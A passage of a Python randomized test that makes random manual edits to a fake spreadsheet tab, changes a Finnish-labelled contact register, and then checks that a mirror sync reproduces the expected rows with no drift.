            fake_sheets.set_cell(spreadsheet_id, TAB, f"B{rng.randint(2, len(tab))}", "muokattu")
        elif action == "add":
            fake_sheets.insert_row(
                spreadsheet_id, TAB, rng.randint(2, len(tab) + 1), contact_row("Käsin Lisätty")
            )
        elif action == "copy" and len(tab) > 1:
            fake_sheets.insert_row(
                spreadsheet_id, TAB, rng.randint(2, len(tab) + 1), rng.choice(tab[1:])
            )
        elif action == "delete" and len(tab) > 1:
            fake_sheets.delete_row(spreadsheet_id, TAB, rng.randint(2, len(tab)))
        elif action == "blank":
            fake_sheets.insert_row(spreadsheet_id, TAB, rng.randint(2, len(tab) + 1), [])
        elif action == "sort" and rng.random() < 0.5:
            fake_sheets.sort_rows(spreadsheet_id, TAB, column=rng.randint(0, 2))
    # Meanwhile the register changes: withdrawals anywhere, newcomers anywhere.
    rows = [row for row in rows if rng.random() > 0.2]
    for _ in range(rng.randint(0, 10)):
        rows.insert(rng.randint(0, len(rows)), contact_row(f"Uusi {rng.randint(0, 999)}"))
    for row in rng.sample(rows, min(len(rows), rng.randint(0, 3))):
        row[4] = "21.11.2026 10.00"
    mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert not mirror.apply(HEADER, rows, check_only=True).drift
